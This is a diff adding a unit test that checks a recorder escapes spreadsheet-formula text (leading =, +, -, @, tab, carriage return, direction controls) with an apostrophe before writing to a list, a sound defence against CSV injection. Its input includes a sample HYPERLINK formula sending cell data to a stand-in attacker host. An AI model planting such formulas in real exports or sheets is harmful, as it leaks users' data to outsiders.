@@ -227,6 +227,34 @@ describe('Graph recorder (local Graph server, real graph-client)', () => {
     assert.deepEqual(writes(), [], 'recording it again changes nothing');
   });
 
+  it('a comment or name a spreadsheet would run as a formula reaches the list with an apostrophe before it, so an export to Excel shows it and runs nothing', async () => {
+    // Decisions.Comment is typed by whoever decides; a list exported to CSV and opened in Excel runs
+    // a cell starting with = + - @ (or a tab or carriage return) as a formula.
+    const comment = '=HYPERLINK("http://evil.example/?"&A1,"Open the plan")';
+    const fields = { ...decision(1).fields, Comment: comment, DecidedBy: '@Harper', OnBehalfOf: '+Sam', Outcome: '-2+3' };
+    await recorder().record({ ...decision(1), fields });
+    const [row] = rows('Decisions');
+    assert.equal(row?.Comment, `'${comment}`);
+    assert.equal(row?.DecidedBy, "'@Harper");
+    assert.equal(row?.OnBehalfOf, "'+Sam");
+    assert.equal(row?.Outcome, "'-2+3");
+    // A tab or carriage return first, or a direction control hiding the = (taken out first), the same.
+    await recorder().record({ ...decision(2), fields: { ...decision(2).fields, Comment: '\t=1+1', DecidedBy: '\u202E=1+1', OnBehalfOf: '\r@SUM(A1)' } });
+    const second = rows('Decisions')[1];
+    assert.equal(second?.Comment, "'\t=1+1");
+    assert.equal(second?.DecidedBy, "'=1+1");
+    assert.equal(second?.OnBehalfOf, "'\r@SUM(A1)");
+    // Text that only holds such a sign further on is as typed; recording again changes nothing.
+    await recorder().record({ ...decision(3), fields: { ...decision(3).fields, Comment: 'Agreed: 2+2 = 4 @ home - fine' } });
+    assert.equal(rows('Decisions')[2]?.Comment, 'Agreed: 2+2 = 4 @ home - fine');
+    server.resetStats();
+    await recorder().record({ ...decision(1), fields });
+    await recorder().record({ ...caseRow('assessment', '2025-03-04T10:00:00Z', { SocialWorker: '=Sam' }) });
+    await recorder().record({ ...caseRow('assessment', '2025-03-04T10:00:00Z', { SocialWorker: '=Sam' }) });
+    assert.equal(rows('Cases')[0]?.SocialWorker, "'=Sam");
+    assert.deepEqual(writes(), ['POST 201'], 'the decision is not written again; the case row once, then left as it is');
+  });
+
   it('403 and a missing list (404) are permanent', async () => {
     server.fail({ status: 403 });
     await rejectsWith(recorder().record(decision(1)), PermanentRecordError);
